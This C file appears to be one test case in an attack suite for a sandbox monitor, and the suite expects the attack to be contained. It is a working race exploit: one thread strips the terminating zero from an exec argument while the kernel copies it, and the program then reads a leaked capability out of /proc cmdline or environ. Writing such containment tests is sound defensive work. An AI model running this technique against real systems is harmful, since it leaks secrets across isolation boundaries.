/* attack
class: disclosure
aim: call
race: true
tries: the capability behind an argument that loses its end while the kernel copies it
expect: { none: contained, mpk: contained }
options: [-pthread]
*/
/* The kernel measures each string that an exec is given, then copies it. Another thread takes the zero at its end away in between, and the
   string runs on into what lies behind it on the new stack: what the monitor hands to its loader. That cannot begin, and waits at a full
   pipe to say so, while another process reads its arguments and environment. */
#include "attack.h"
#include <pthread.h>
#include <time.h>
static unsigned long told_by(pid_t pid, const char *file) {
    static char all[1 << 16];
    static const char name[] = "MONGUARD_CAPABILITY=";
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    int fd = open(path, O_RDONLY);
    ssize_t have = fd < 0 ? -1 : read(fd, all, sizeof all - 1);
    if (fd >= 0) close(fd);
    if (have <= 0) return 0;
    all[have] = 0;
    for (ssize_t i = 0; i + (ssize_t)sizeof name < have; i++)
        if (memcmp(all + i, name, sizeof name - 1) == 0 && all[i + (ssize_t)sizeof name - 1]) return strtoul(all + i + sizeof name - 1, NULL, 16);
    return 0;
}
static char unended[] = "UNENDED=x";
static void *toggle(void *unused) {
    for (volatile char *end = unended + sizeof unended - 1;; *end = 0) *end = 'y';
    return unused;
}
_Noreturn static void exec_unended(int in_environment, int errors) {
    pthread_t thread;
    char *argv[] = {"again", in_environment ? NULL : unended, NULL}, *envp[] = {in_environment ? unended : NULL, NULL};
    dup2(errors, 2);
    pthread_create(&thread, NULL, toggle, NULL);
    usleep(1000);
    execve("/proc/self/exe", argv, envp);
    _exit(1);
}
int main(int argc, char **argv) {
    if (strcmp(argv[0], "again") == 0) _exit(argc < 0);
    int errors[2];
    if (pipe2(errors, O_NONBLOCK)) return 1;
    while (write(errors[1], unended, 1) == 1) continue;
    fcntl(errors[1], F_SETFL, 0);
    unsigned long capability = 0;
    time_t end = time(NULL) + 6;
    for (int turn = 0; !capability && time(NULL) < end; turn++) {
        pid_t child = fork();
        if (child == 0) exec_unended(turn & 1, errors[1]);
        for (int left = 100; left > 0 && !capability && waitpid(child, NULL, WNOHANG) == 0; left--) {
            capability = told_by(child, turn & 1 ? "environ" : "cmdline");
            usleep(1000);
            if (left == 1 || capability) {
                kill(child, SIGKILL);
                waitpid(child, NULL, 0);
            }
        }
    }
    if (capability) printf("read %lx\n", capability);
    tries_with(capability);
    verdict_of_folder();
}
